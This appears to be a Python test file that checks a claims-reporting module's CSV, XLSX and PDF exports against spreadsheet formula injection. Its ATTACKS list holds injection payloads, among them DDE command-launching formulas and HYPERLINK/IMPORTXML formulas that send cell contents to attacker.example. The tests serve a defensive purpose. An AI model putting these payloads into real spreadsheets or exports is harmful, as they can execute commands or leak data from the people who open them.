"""A downloaded report runs nothing: whatever a payer calls itself, a spreadsheet shows it as text."""

import csv
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from claims.reports import REPORTS, Filters, write
from claims.reports.cells import neutralised, safe_text
from tests.unit.reports.conftest import base, owed, publish_rows

ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://attacker.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠A1",  # noqa: RUF001
    '"=1+1',
    "Payer;=1+1",
    'Payer";=1+1',
    "Payer\t=1+1",
    "Payer\r\n=1+1",
    "-5",
    "+1 (555) 0100",
)
STARTS = "=+-@＝＋－＠\t\r\n"  # noqa: RUF001
HARMLESS = ("Evergreen", "0123456789", "99213", "A=B", "a-b", "x@y", "1+1", "", "Łódź 'quoted'", "2025-01-01", "(5)")


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_field_begins_as_a_formula(attack: str) -> None:
    said = safe_text(attack)
    assert said.lstrip(" \u00a0\ufeff\x00")[:1] not in STARTS or said == ""
    assert said in (attack, f"'{attack}"), "the text itself stays whole"


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    assert safe_text(text) == text
    assert neutralised(pa.array([text, None]), splits=True).to_pylist() == [text, None]


@given(st.text(min_size=1))
def test_whatever_the_text_no_cell_begins_as_a_formula(text: str) -> None:
    said = safe_text(text)
    assert said[0] not in STARTS
    assert said.lstrip()[:1] not in tuple("=+-@")
    assert said in (text, f"'{text}")


@given(st.text(alphabet=st.sampled_from("=+-@;,\"'\t\r\n aA1|")))
def test_wherever_a_spreadsheet_splits_a_line_no_cell_begins_as_a_formula(text: str) -> None:
    """Also where lists are separated by semicolons or tabs, and the quotes of the comma file hold nothing together."""
    said = str(neutralised(pa.array([text]), splits=True)[0].as_py())
    for separator in ";\t":
        first, *others = said.split(separator)
        assert first.lstrip()[:1] not in tuple("=+-@"), said
        for cell in others:
            assert cell.lstrip(' "\r\n\t')[:1] not in tuple("=+-@"), said


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy in which payers, providers, outcomes and codes are attacks."""
    rows = base()
    rows["dim_payer"] = [
        {"tenant_id": "alder", "payer_id": f"P{n:02}", "payer_name": attack} for n, attack in enumerate(ATTACKS)
    ]
    rows["fct_ar_snapshot"] = [
        owed(n + 1, Decimal("-5.25" if n % 2 else "5.25"), payer_id=f"P{n:02}", answer_state=attack)
        for n, attack in enumerate(ATTACKS)
    ]
    return publish_rows(tmp_path_factory.mktemp("hostile"), rows)


def test_the_csv_of_hostile_names_holds_no_formula_and_every_name(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "a.csv"
    write(hostile, "alder", REPORTS["ar_aging"], Filters(), "csv", out, table_name="claims")
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode(), newline="")))
    assert len(rows) == len(ATTACKS)
    numbers = {"charge_amount", "open_balance_amount", "age_days"}
    for row in rows:
        attack = ATTACKS[int(row["payer_id"][1:])]
        for name, value in row.items():
            if name in numbers:
                float(value)
            else:
                assert value[:1] not in tuple(STARTS), (name, value)
        for said in (row["payer"], row["answer_state"]):
            assert said.replace("'", "") == attack.replace("'", "")
    assert {row["open_balance_amount"] for row in rows} == {"5.25", "-5.25"}


def test_the_xlsx_of_hostile_names_has_texts_only(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "a.xlsx"
    write(hostile, "alder", REPORTS["ar_aging"], Filters(), "xlsx", out)
    seen = 0
    for sheet in openpyxl.load_workbook(out):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert cell.hyperlink is None
                if cell.data_type == "s":
                    assert str(cell.value)[:1] not in tuple(STARTS), cell.value
                    seen += "cmd|" in str(cell.value)
    assert seen >= 8


def test_the_pdf_of_hostile_names_is_made(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "a.pdf"
    assert write(hostile, "alder", REPORTS["ar_aging"], Filters(), "pdf", out).byte_count > 5000
    assert b"/JavaScript" not in out.read_bytes()
    assert b"/URI" not in out.read_bytes()
